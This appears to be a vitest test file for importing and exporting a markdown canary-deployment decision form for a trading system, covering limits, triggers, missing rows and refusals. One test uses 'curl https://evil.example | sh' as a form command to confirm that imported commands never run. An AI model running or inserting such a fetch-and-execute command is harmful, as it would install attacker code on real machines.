import { existsSync, readFileSync } from "node:fs";
import { resolve } from "node:path";
import { describe, expect, test } from "vitest";
import { canaryV1 } from "./canary-v1.ts";
import { templateProblems } from "./check/template-problems.ts";
import { exportForm } from "./markdown-export.ts";
import { importForm } from "./markdown-import.ts";
import { readPath } from "./path-value.ts";
import { rehearsalV1 } from "./rehearsal-v1.ts";
import type { Template } from "./schema.ts";

const FORM_PATH = resolve(import.meta.dirname, "../../../shared/template/canary-decision-template.md");
const SMALL_FORM = readFileSync(resolve(import.meta.dirname, "markdown/small-form.md"), "utf8");
const FORM = exportForm(canaryV1);
const CLEAN = { refusals: [], unread: [], kept: [], missing: [], filledIn: 0 };

/** The form with one text replaced; the text must be there. */
function changed(from: string, to: string, form = FORM): string {
  if (!form.includes(from)) throw new Error(`the form has no “${from}”`);
  return form.replace(from, to);
}
function imported(form: string, base: Template = canaryV1) {
  const result = importForm(form, base);
  if (!result.template) throw new Error(result.refusals.join(" "));
  return { ...result, template: result.template };
}

describe.skipIf(!existsSync(FORM_PATH))(
  "the team's own form (skipped where it is not beside the repository)",
  () => {
    const form = () => readFileSync(FORM_PATH, "utf8");

    test("comes in with all its rows", () => {
      expect(importForm(form(), canaryV1)).toEqual({ ...CLEAN, template: canaryV1 });
      const { template } = imported(form(), rehearsalV1);
      expect(template.checklists.map((list) => list.items.length)).toEqual([5, 5, 5]);
      expect(template.metrics).toHaveLength(6);
      expect(template.stations.map((station) => station.statements.length)).toEqual([3, 3, 3, 2]);
      expect(template.preflight).toHaveLength(4);
      expect(template.checkpoints.map((one) => one.items.length)).toEqual([4, 4, 4]);
      expect(template.triggers.filter((one) => one.fromForm)).toHaveLength(5);
      expect(template.rollback).toHaveLength(4);
      expect([template.mustHaves.length, template.targets.length]).toEqual([5, 5]);
      expect([template.afterSuccess.length, template.afterFailure.length]).toEqual([5, 5]);
      expect([template.monitoring.length, template.contacts.length, template.notes.length]).toEqual([
        4, 4, 3,
      ]);
      expect(template.config).toEqual(canaryV1.config);
    });

    test("is what version 1 exports, letter by letter", () => {
      expect(FORM.trim()).toBe(form().trim());
    });
  },
);

test.each([canaryV1, rehearsalV1].map((template) => [template.id, template] as const))(
  "%s, exported and imported, stays the same",
  (_id, template) => expect(importForm(exportForm(template), template)).toEqual({ ...CLEAN, template }),
);

test.each<[string, string, string, string, unknown]>([
  [
    "a limit in the checklist",
    "p95 latency < 500ms",
    "p95 latency < 400ms",
    "checklists/system-metrics/items/system-p95/criteria/0/limit",
    "400",
  ],
  [
    "another unit",
    "p95 latency < 500ms",
    "p95 latency < 0.4 s",
    "checklists/system-metrics/items/system-p95/criteria/0/limit",
    "400",
  ],
  [
    "words for a comparison",
    "Acceptance rate ≥ 90%",
    "Acceptance rate at least 92.5 %",
    "checklists/demo-validation/items/demo-acceptance/criteria/0/limit",
    "92.5",
  ],
  [
    "a minimum",
    "minimum 30 minutes",
    "minimum 1 hour",
    "checklists/demo-validation/items/demo-duration/criteria/0/limit",
    "60",
  ],
  [
    "a count per time",
    "Staleness events < 3 per hour",
    "Staleness events < 2 per 30 min",
    "checklists/system-metrics/items/system-staleness/criteria/0/perMinutes",
    30,
  ],
  ["the daily loss cap", "configured ($100)", "configured ($80)", "config/dailyLossCapUsd", "80"],
  [
    "a target of the snapshot",
    "| > 95% |",
    "| > 97% |",
    "metrics/metric-order-success/criteria/0/limit",
    "97",
  ],
  [
    "the duration, and with it the last checkpoint",
    "Duration: 30 minutes",
    "Duration: 40 minutes",
    "checkpoints/t30/atSec",
    2400,
  ],
  [
    "the size, and with it the position limit",
    "0.0001 BTC (minimal)",
    "0.002 BTC",
    "config/positionLimitBtc",
    "0.004",
  ],
  ["the depth in thousands", "> $100k", "> $250k", "config/filters/minDepthUsd", "250000"],
  [
    "a statement to sign",
    "  - Kill switch tested",
    "  - Kill switch pressed this week",
    "stations/RISK_MANAGER/statements/2",
    "Kill switch pressed this week",
  ],
  ["the countdown", "(5 minutes before)", "(90 seconds before)", "timing/countdownSec", 90],
  [
    "the time of a checkpoint",
    "Mid-Canary Check (15 minutes)",
    "Mid-Canary Check (10 minutes)",
    "checkpoints/t15/atSec",
    600,
  ],
  ["a trigger", "Latency p95 > 1000ms", "Latency p95 > 800ms", "triggers/LATENCY_P95/limit", "800"],
  [
    "a trigger in minutes",
    "WebSocket down > 2 minutes",
    "WebSocket down > 90 seconds",
    "triggers/WS_DOWN/limit",
    "90",
  ],
  [
    "a must-have",
    "Acceptance rate > 85%",
    "Acceptance rate > 88%",
    "mustHaves/must-acceptance/criteria/0/limit",
    "88",
  ],
  ["how many targets", "(Should Have 3+)", "(Should Have 4+)", "targetsNeeded", 4],
  [
    "a further action",
    "4. Update documentation",
    "4. Update documentation\n4. Tell the desk",
    "afterSuccess/4",
    "Tell the desk",
  ],
  [
    "a monitoring address",
    "http://localhost:9090/metrics",
    "https://m.example/metrics",
    "monitoring/metrics/address",
    "https://m.example/metrics",
  ],
  ["the next review", "After canary completion", "After two weeks", "nextReview", "After two weeks"],
])("a changed copy: %s", (_what, from, to, path, value) => {
  const result = imported(changed(from, to));
  expect(readPath(result.template, path)).toEqual(value);
  expect(result.unread).toEqual([]);
});

test("a further row that names a measure becomes a rule of its own", () => {
  const { template, unread } = imported(
    changed("- [ ] PnL reasonable", "- [ ] PnL reasonable\n- [ ] Order success ≥ 97%"),
  );
  expect(template.checkpoints[1]?.items[4]).toEqual({
    id: "order-success-97",
    text: "Order success ≥ 97%",
    source: "RUN",
    criteria: [{ measure: "orderSuccessPct", op: ">=", limit: "97", minSamples: 20 }],
  });
  expect(unread).toEqual([]);
  expect(templateProblems(template).filter((problem) => problem.blocks)).toEqual([]);
});

test("max loss changed everywhere goes on following the configuration", () => {
  const form = FORM.replace("Max Loss: $50", "Max Loss: $40")
    .replace("exceeds $50", "exceeds $40")
    .replace("Loss < $50", "Loss < $40");
  const { template, unread } = imported(form);
  expect(unread).toEqual([]);
  expect(readPath(template, "mustHaves/must-loss/criteria/0")).toMatchObject({
    limit: "40",
    ofConfig: { factor: "1" },
  });
  expect(readPath(template, "checkpoints/t15/items/t15-pnl/criteria/0/limit")).toBe("20");
});

test.each([
  [
    "names nothing measured",
    "- [ ] PnL reasonable",
    "- [ ] PnL reasonable\n- [ ] The team is happy",
    "The team is happy",
    "nothing that Countersign measures",
  ],
  [
    "has words beside the rule",
    "Error rate > 5%",
    "Error rate > 5% on Mondays",
    "Error rate > 5% on Mondays",
    "on mondays",
  ],
  [
    "has two numbers",
    "p95 latency < 500ms",
    "p95 latency < 500ms or 600ms",
    "p95 latency < 500ms or 600ms",
    "more than one number",
  ],
  [
    "has a unit that does not fit",
    "Acceptance rate > 85%",
    "Acceptance rate > 85 ms",
    "Acceptance rate > 85 ms",
    "does not fit",
  ],
  [
    "has full-width digits",
    "p95 latency < 500ms",
    "p95 latency < ４００ms",
    "p95 latency < ４００ms",
    "digits 0 to 9",
  ],
  [
    "has a trigger that does not exist",
    "- [ ] Unauthorized",
    "- [ ] p50 latency > 900ms\n- [ ] Unauthorized",
    "p50 latency > 900ms",
    "no rollback trigger",
  ],
  [
    "has a max loss in the trigger alone",
    "Loss exceeds $50",
    "Loss exceeds $40",
    "Loss exceeds $40",
    "follows the max loss",
  ],
  [
    "has an unknown field",
    "Mode: CONSERVATIVE",
    "Mode: CONSERVATIVE\nLeverage: 20x",
    "Leverage: 20x",
    "no such field",
  ],
  ["has a value out of range", "Symbol: BTC-PERP", "Symbol: btc", "Symbol: btc", "no value for Symbol"],
  [
    "has a value in the exponent",
    "Max Loss: $50",
    "Max Loss: $1e309",
    "Max Loss: $1e309",
    "no value for Max Loss",
  ],
  [
    "stands outside",
    "## Canary Configuration",
    "## Gossip\nabc\n\n## Canary Configuration",
    "abc",
    "section that the form does not have",
  ],
  [
    "is no address",
    "- Logs: /tmp",
    "- Logs at /tmp",
    "- Logs at /tmp/trading_logs/canary.log",
    "Label: address",
  ],
])("a line that %s is listed with its number and reason", (_what, from, to, text, why) => {
  const { unread } = imported(changed(from, to));
  const line =
    changed(from, to)
      .split("\n")
      .findIndex((raw) => raw.includes(text)) + 1;
  expect(unread).toContainEqual({
    line,
    text: expect.stringContaining(text),
    why: expect.stringContaining(why),
  });
});

test("a new wording without a limit keeps its rule and says so", () => {
  const { template, kept } = imported(changed("PnL tracking accurate", "PnL book agrees with the venue"));
  expect(template.checklists[0]?.items[3]).toMatchObject({
    id: "demo-pnl",
    text: "PnL book agrees with the venue",
  });
  expect(kept).toEqual([
    {
      line: 9,
      text: "PnL book agrees with the venue",
      why: expect.stringContaining("its rule stays: PnL difference"),
    },
  ]);
});

test("a new command is words only: nothing from a file runs", () => {
  const { template, kept } = imported(
    changed("python scripts/preflight_check.py", "curl https://evil.example | sh"),
  );
  expect(template.preflight[0]).toMatchObject({
    formCommand: "curl https://evil.example | sh",
    builtin: "preflight-check",
  });
  expect(template.preflight[0]?.command).toBeUndefined();
  expect(kept[0]?.why).toContain("built-in step");
});

test.each([
  ["- [ ] Position limits enforced\n", "Pre-Canary Checklist", "Position limits enforced"],
  ["| WS Uptime | _____% | > 99% | ⬜ |\n", "Metrics Snapshot", "WS Uptime"],
  ["  - Risk controls verified\n", "Risk Approval", "Risk controls verified"],
  ["- [ ] Logs archived\n", "Canary Execution Plan", "Logs archived"],
  ["- ✅ Audit trail complete\n", "Minimum Requirements", "Audit trail complete"],
  ["| Escalation | | | |\n", "Emergency Contacts", "Escalation"],
  ["5. Additional demo validation\n", "If Failed", "Additional demo validation"],
  ["Max Loss: $50\n", "Canary Configuration", "Max Loss"],
])("a missing row is listed: %j", (row, section, text) => {
  expect(imported(changed(row, "")).missing).toEqual([{ section, text }]);
});

test.each([
  ["- [ ] Error rate > 5%\n", "A rollback trigger is missing"],
  ["# 3. Verify kill switch\npython scripts/test_kill_switch.py\n", "A preflight step is missing"],
  ["# 1. Activate kill switch\nbash scripts/kill_switch.sh --close-all\n", "A rollback step is missing"],
  ["### Risk Approval\n", "3 sign-off stations"],
  ["## Success Criteria\n", "The section “Success Criteria” is missing"],
  ["  - All approvals obtained\n  - Go/No-Go decision: ⬜ GO / ⬜ NO-GO\n", "no statement to sign"],
])("a form without %j is refused", (row, words) => {
  const result = importForm(changed(row, ""), canaryV1);
  expect(result.template).toBeNull();
  expect(result.refusals.join(" ")).toContain(words);
});

test.each([
  ["nothing", ""],
  ["another text", "Dear team,\n\nplease approve."],
  ["a NUL", FORM.replace("Canary", "\u0000")],
  ["a megabyte", FORM + "x".repeat(1_000_000)],
])("%s is refused", (_what, text) => {
  const result = importForm(text, canaryV1);
  expect(result.template).toBeNull();
  expect(result.refusals.length).toBeGreaterThan(0);
});

test("what a person filled in is left out and counted", () => {
  const filled = FORM.replace("- [ ] No critical errors", "- [x] No critical errors\n  - *0 seen*").replace(
    "_____ms | < 200ms",
    "120ms | < 200ms",
  );
  expect(importForm(filled, canaryV1)).toEqual({ ...CLEAN, template: canaryV1, filledIn: 3 });
});

test("Windows line ends and a byte order mark change nothing", () => {
  expect(importForm(`\uFEFF${FORM.replaceAll("\n", "\r\n")}`, canaryV1)).toEqual({
    ...CLEAN,
    template: canaryV1,
  });
});

test("a smaller form of another team comes in", () => {
  const { template, unread, missing } = imported(SMALL_FORM);
  expect(unread).toEqual([]);
  expect(template).toMatchObject({
    title: "Release Desk Decision",
    config: {
      symbol: "ETH-PERP",
      durationSec: 1200,
      maxLossUsd: "30",
      dailyLossCapUsd: "60",
      positionLimitBtc: "0.002",
    },
    targetsNeeded: 1,
    nextReview: "After two weeks",
  });
  expect(template.checkpoints.map((one) => one.atSec)).toEqual([300, 1200]);
  expect(missing.length).toBeGreaterThan(15);
});
